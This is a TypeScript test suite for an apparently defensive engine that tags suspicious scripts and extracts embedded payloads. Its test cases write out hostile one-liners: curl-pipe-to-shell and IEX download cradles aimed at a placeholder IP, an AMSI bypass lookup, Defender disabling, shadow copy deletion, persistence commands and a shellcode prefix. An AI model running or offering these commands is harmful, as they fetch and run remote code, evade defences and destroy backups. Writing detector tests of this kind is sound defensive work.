import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { inspect, type RecordedFindings } from '../../../../test/analysis/findings.ts';
import { fuzzSettings, hostileVariants } from '../../../../test/analysis/fuzz.ts';
import { SHELLCODE_FORMS } from '../../../../test/fixtures/analysis/generate/families/shellcode-forms.ts';
import { Subject } from '../../subject.ts';
import { script } from './script.ts';
import { source } from './source.ts';

/** The first bytes of shellcode, every other value, and the marks that literals escape. */
const SHELLCODE = Buffer.concat([
  Buffer.from('fce8890000006089e5', 'hex'),
  Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)),
  Buffer.from('two  blanks'),
]);
const INNER = 'Write-Host "a line that is long enough to be taken for text"';
const encoded = Buffer.from(INNER, 'utf16le').toString('base64');

function inspectText(text: string, name = 'sample'): Promise<RecordedFindings> {
  return inspect(script, Buffer.from(text, 'utf8'), { name });
}

async function tagsOf(text: string, name?: string): Promise<string[]> {
  return [...(await inspectText(text, name)).tags.keys()];
}

function textsIn({ nested }: RecordedFindings): string[] {
  return nested.map(({ bytes }) => bytes.toString('utf8'));
}

describe('the kind of a script', () => {
  const cases: readonly (readonly [tag: string, text: string, name?: string])[] = [
    ['SCRIPT_POWERSHELL', '$a = New-Object Net.WebClient\nWrite-Host $env:TEMP'],
    ['SCRIPT_POWERSHELL', 'hello', 'a.ps1'],
    ['SCRIPT_POWERSHELL', '"C:\\Windows\\powershell.exe" -NoProfile'],
    ['SCRIPT_VBS', 'Dim a\r\nSet a = CreateObject("X")\r\nMsgBox "a line"'],
    ['SCRIPT_VBA', 'Attribute VB_Name = "Module1"\r\nSub A()\r\nEnd Sub'],
    ['SCRIPT_JS', 'var a = 1;\nfunction b() { eval("1"); }'],
    ['SCRIPT_BATCH', '@echo off\r\nset "a=b"\r\ngoto end'],
    ['SCRIPT_SHELL', '#!/bin/sh\necho a line'],
    ['SCRIPT_PYTHON', '#!/usr/bin/env python3\nprint(1)'],
    ['SCRIPT_PYTHON', 'import os\ndef a():\n  print(1)\n'],
    ['SCRIPT_HTA', '<html><head><HTA:APPLICATION ID="a"></head></html>'],
    ['HTML', '<!DOCTYPE html><html></html>'],
  ];
  for (const [tag, text, name] of cases) {
    it(`is ${tag} for ${JSON.stringify(text.slice(0, 30))}`, async () => {
      assert.deepEqual(
        (await tagsOf(text, name)).filter((each) => each === tag),
        [tag],
      );
    });
  }

  it('is undefined for prose, data and programs', async () => {
    const others = [
      'Dear reader, please set the table and import the goods from there. Thank you for the function.',
      '{"a": [1, 2, 3]}',
      'MZ\x90\0\x03\0\0\0 powershell iex invoke-expression',
      '%PDF-1.4 powershell iex invoke-expression',
      '',
    ];
    for (const text of others) assert.deepEqual(await tagsOf(text), []);
  });

  it('is recognised in UTF-16 too, with offsets in bytes', async () => {
    const text = 'param($a)\r\nIEX (New-Object Net.WebClient).DownloadString($a)';
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const { tags } = await inspect(script, bytes);
    const offset = tags.get('DOWNLOAD_CRADLE')?.offset ?? 0;
    assert.equal(bytes.toString('utf16le', offset, offset + 28), 'DownloadString');
  });
});

describe('the behaviour of a script', () => {
  const cases: readonly (readonly [tag: string, text: string, name: string])[] = [
    ['DOWNLOAD_CRADLE', "IEX(iwr 'http://192.0.2.1/a')", 'a.ps1'],
    ['DOWNLOAD_CRADLE', 'curl -s http://192.0.2.1/a | sh', 'a.sh'],
    ['DOWNLOAD_CRADLE', 'CreateObject("MSXML2.XMLHTTP"):CreateObject("WScript.Shell")', 'a.vbs'],
    ['AMSI_BYPASS', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", 'a.ps1'],
    ['AMSI_BYPASS', "GetType('System.Management.Automation.Am'+'siUt'+'ils')", 'a.ps1'],
    ['HIDDEN_WINDOW', 'powershell  -WindowStyle   Hidden -File a', 'a.bat'],
    ['HIDDEN_WINDOW', 'CreateObject("WScript.Shell").Run "a", 0, False', 'a.vbs'],
    ['REFLECTIVE_LOAD', '[System.Reflection.Assembly]::Load($a)', 'a.ps1'],
    [
      'PERSISTENCE_RUN_KEY',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'a.bat',
    ],
    ['PERSISTENCE_SCHTASKS', 's^cht^asks /cre^ate /tn a', 'a.bat'],
    ['DEFENDER_TAMPERING', 'S`et-MpPref`erence -DisableRealtimeMonitoring 1', 'a.ps1'],
    ['SHADOW_COPY_DELETION', 'vssadmin delete shadows /all', 'a.bat'],
    ['SHELLCODE_LOADER', '$a = VirtualAlloc; CreateThread', 'a.ps1'],
    ['DOWNLOAD_CRADLE', 'exec(urlopen("http://192.0.2.1/a").read())', 'a.py'],
    ['PERSISTENCE_CRON', '(crontab -l; echo "* * * * * /tmp/a") | crontab -', 'a.sh'],
    ['PERSISTENCE_CRON', 'cp a /etc/init.d/a', 'a.sh'],
    ['EVAL_DECODED', 'exec(base64.b64decode("aa"))', 'a.py'],
    ['EVAL_DECODED', 'Execute(StrReverse("x"))', 'a.vbs'],
    ['HTML_SMUGGLING', 'b=atob(x);a.href=URL.createObjectURL(b);a.download="x"', 'a.js'],
    ['ENCODED_SCRIPT', '#@~^AAAAAA==abc', 'a.vbe'],
  ];
  for (const [tag, text, name] of cases) {
    it(`is ${tag} for ${text.slice(0, 40)}`, async () => {
      assert.ok((await tagsOf(text, name)).includes(tag));
    });
  }

  it('has no suspicious tags for ordinary scripts', async () => {
    const honest: readonly (readonly [string, string])[] = [
      [
        'if (window.XMLHttpRequest) {} else new ActiveXObject("Microsoft.XMLHTTP"); /a/.exec(b)',
        'a.js',
      ],
      ['Get-ChildItem | ForEach-Object { $_.Name }', 'a.ps1'],
      ['for i in a b; do echo "$i"; done', 'a.sh'],
      ['ping -w 1 192.0.2.1', 'a.bat'],
      [`from urllib.request import urlopen\n${'# a line\n'.repeat(99)}exec(code, names)`, 'a.py'],
      ['self.execute(copy, (a,))\nname = name.replace("-", "_")', 'a.py'],
      ['import base64\nbase64.b64decode(a)\n/a/.exec(b)', 'a.js'],
      ['/etc/init.d/cron start || echo "/etc/init.d/cron does not start"', 'a.sh'],
      [`echo "no curl here" | grep 'curl '\n${'# a line\n'.repeat(150)}sh -c true`, 'a.sh'],
      [`A = "${'\\u0370-\\u03ff'.repeat(99)}"`, 'a.py'],
    ];
    for (const [text, name] of honest) assert.equal((await tagsOf(text, name)).length, 1, text);
  });

  it('does not load shellcode where a manual or a wrapper names the functions', async () => {
    const calls = ['VirtualAlloc(0, n, 0x3000, 0x40)', 'CreateThread(0, 0, p, 0, 0, 0)'];
    const loader = `import ctypes\n${calls.join('\n')}`;
    const wrapper = `import ctypes\n${calls.join(`\n${'# a comment\n'.repeat(200)}`)}`;
    const manual = `<!DOCTYPE html><html><body>${calls.join('<br>')}</body></html>`;
    assert.ok((await tagsOf(loader, 'a.py')).includes('SHELLCODE_LOADER'));
    assert.ok(!(await tagsOf(wrapper, 'a.py')).includes('SHELLCODE_LOADER'));
    assert.ok(!(await tagsOf(manual, 'a.html')).includes('SHELLCODE_LOADER'));
  });

  it('is reported with its offset', async () => {
    const text = '# \u00e9\nSet-MpPreference -DisableRealtimeMonitoring 1';
    const offset = (await inspectText(text, 'a.ps1')).tags.get('DEFENDER_TAMPERING')?.offset ?? 0;
    assert.equal(Buffer.from(text).toString('utf8', offset, offset + 16), 'Set-MpPreference');
  });

  it('may be obfuscated, which has a tag of its own', async () => {
    const hidden =
      "$a = 'W'+'r'+'i'+'t'+'e'+'-'+'H'+'o'+'s'+'t'+' '+'a'+' '+'l'+'i'+'n'+'e'+' '+'o'+'f'+' '+'t'+'e'+'x'+'t'";
    assert.ok((await tagsOf(hidden, 'a.ps1')).includes('OBFUSCATED_SCRIPT'));
    const plain = `$a = 'one'+'two'\n${'Write-Host "a line"\n'.repeat(50)}`;
    assert.ok(!(await tagsOf(plain, 'a.ps1')).includes('OBFUSCATED_SCRIPT'));
  });
});

describe('content that a script embeds', () => {
  it('is the command after -EncodedCommand, in all spellings', async () => {
    for (const parameter of ['-e', '-enc', '-EncodedCommand', '/ec', '-en^c']) {
      const found = await inspectText(`powershell.exe -nop ${parameter} ${encoded}`, 'a.bat');
      assert.ok(found.tags.has('ENCODED_COMMAND'), parameter);
      assert.deepEqual(found.nested, [{ name: 'encoded command.ps1', bytes: Buffer.from(INNER) }]);
    }
  });

  it('is not the value of another parameter', async () => {
    const found = await inspectText(
      `powershell.exe -ExecutionPolicy ${encoded.slice(0, 100)}`,
      'a.bat',
    );
    assert.ok(!found.tags.has('ENCODED_COMMAND'));
  });

  it('is a base64 literal, packed or not, also reversed', async () => {
    const bytes = Buffer.from(INNER.repeat(4));
    const forms = [bytes, gzipSync(bytes), deflateSync(bytes), deflateRawSync(bytes)].map((form) =>
      form.toString('base64'),
    );
    forms.push([...bytes.toString('base64')].reverse().join(''));
    for (const form of forms) {
      const text = `$s = [IO.Compression.DeflateStream]; [Convert]::FromBase64String('${form}')`;
      assert.deepEqual(textsIn(await inspectText(text, 'a.ps1')), [bytes.toString()]);
    }
  });

  it('is concatenated before it is decoded', async () => {
    const form = Buffer.from(INNER).toString('base64');
    const text = `[Convert]::FromBase64String('${form.slice(0, 20)}'+'${form.slice(20)}')`;
    assert.deepEqual(textsIn(await inspectText(text, 'a.ps1')), [INNER]);
  });

  it('is a program in hex digits or in a list of numbers', async () => {
    const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(100, 7)]);
    const forms = [
      `$a = '${program.toString('hex')}'`,
      `[Byte[]] $a = ${[...program].map((byte) => `0x${byte.toString(16)}`).join(',')}`,
      `$a = ${[...program].join(', ')}`,
    ];
    for (const form of forms) {
      assert.deepEqual((await inspectText(form, 'a.ps1')).nested[0]?.bytes, program);
    }
  });

  it('is text in character codes', async () => {
    const codes = [...INNER].map((sign) => sign.charCodeAt(0));
    const forms: readonly (readonly [string, string])[] = [
      [codes.map((code) => `Chr(${code})`).join(' & '), 'a.vbs'],
      [codes.map((code) => `[char]${code}`).join('+'), 'a.ps1'],
      [`String.fromCharCode(${codes.join(',')})`, 'a.js'],
    ];
    for (const [form, name] of forms)
      assert.deepEqual(textsIn(await inspectText(form, name)), [INNER]);
  });

  it('is not every long word or list', async () => {
    const table = Array.from({ length: 64 }, (_, index) => (index * 37 + 128) % 256).join(',');
    assert.deepEqual((await inspectText(`var a = [${table}];`, 'a.js')).nested, []);
    assert.deepEqual((await inspectText(`var a = "${'x'.repeat(100)}";`, 'a.js')).nested, []);
    assert.deepEqual((await inspectText(`padding = [${'0x20, '.repeat(64)}]`, 'a.py')).nested, []);
  });

  for (const [name, write] of Object.entries(SHELLCODE_FORMS)) {
    it(`is shellcode, in the form of ${name}`, async () => {
      const format = /\.cs?$/.test(name) ? source : script;
      const text = Buffer.from(write(SHELLCODE));
      assert.ok(format.matches(new Subject(text, name)));
      const { nested } = await inspect(format, text, { name });
      assert.deepEqual(
        nested.map(({ bytes }) => bytes),
        [SHELLCODE],
      );
    });
  }

  it('is shellcode in values behind casts, and in lines with comments', async () => {
    const values = [...SHELLCODE].map((byte) => `0x${byte.toString(16)}`);
    for (const text of [
      `byte[] a = new byte[] {\n(byte) ${values.join(', (byte) ')}\n};`,
      `unsigned char a[] = { /* 0 */ ${values.join(', /* next */ ')} };`,
      `unsigned char a[] = {\n${values.join(', // a row\n')}\n};`,
    ]) {
      const { nested } = await inspect(source, Buffer.from(text), { name: 'a.txt' });
      assert.deepEqual(nested[0]?.bytes, SHELLCODE, text.slice(0, 60));
    }
  });

  it('is shellcode behind instructions without effect', async () => {
    const sled = Buffer.concat([Buffer.alloc(32, 0x90), SHELLCODE]);
    const { nested } = await inspectText(SHELLCODE_FORMS['lines.py'](sled), 'a.py');
    assert.deepEqual(nested[0]?.bytes, sled);
  });

  it('is not a table of signed numbers, nor a word in escapes', async () => {
    const numbers = Array.from({ length: 300 }, (_, index) => 100 - ((index * 7) % 90)).join(',');
    const word = [...'document.getElementById and more of it'].map(
      (letter) => `\\x${letter.charCodeAt(0).toString(16)}`,
    );
    for (const text of [`var a = [-1,${numbers}];`, `var a = "${word.join('')}";`])
      assert.deepEqual((await inspectText(text, 'a.js')).nested, [], text);
  });

  it('ends where a number of another form follows', async () => {
    const list = [...SHELLCODE].join(',');
    for (const end of ['1.5', '256', '0x100', 'x', '', '&HFFF', '-129'])
      assert.deepEqual(
        (await inspectText(`var a = [${list},${end}];`, 'a.js')).nested[0]?.bytes,
        SHELLCODE,
        end,
      );
  });

  it('is cut if it unpacks to too much', async () => {
    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024)).toString('base64');
    const found = await inspectText(`[Convert]::FromBase64String('${bomb}')`, 'a.ps1');
    assert.deepEqual(found.limits, ['an encoded part unpacks to more than 16777216 bytes']);
  });
});

describe('a hostile script', () => {
  const lines: readonly (readonly [string, string])[] = [
    ['one long word', 'a'],
    ['quotes', '"'],
    ['joints', "'+'"],
    ['numbers', '1,'],
    ['escapes', '`^\\x41'],
    ['escaped literals', '"\\x41"'],
    ['signed numbers', '-1, _\n'],
    ['comments in numbers', '1,/*'],
    ['short words of the alphabet', `${'A'.repeat(39)} `],
    ['characters', 'chr(1)'],
    ['spaces', ' '],
    ['parameters', '-e '],
  ];
  for (const [what, piece] of lines) {
    it(`of one endless line of ${what} is read in bounded time`, async () => {
      const bytes = Buffer.alloc(2 * 1024 * 1024, piece);
      assert.ok((await inspect(script, bytes, { name: 'a.ps1' })).tags.has('SCRIPT_POWERSHELL'));
    });
  }

  it('is read up to the limit, and reports it', async () => {
    const { limits } = await inspect(script, Buffer.alloc(50 * 1024 * 1024, ' '), {
      name: 'a.ps1',
    });
    assert.deepEqual(limits, ['the text is longer than what is looked at']);
  });

  it('returns for any input', async () => {
    const good = Buffer.from(
      `IEX([Convert]::FromBase64String('${encoded}')) # chr(65)&chr(66) 1,2,3`,
    );
    await fc.assert(
      fc.asyncProperty(
        hostileVariants(good),
        async (bytes) => void (await inspect(script, bytes, { name: 'a.ps1' })),
      ),
      fuzzSettings(),
    );
  });
});
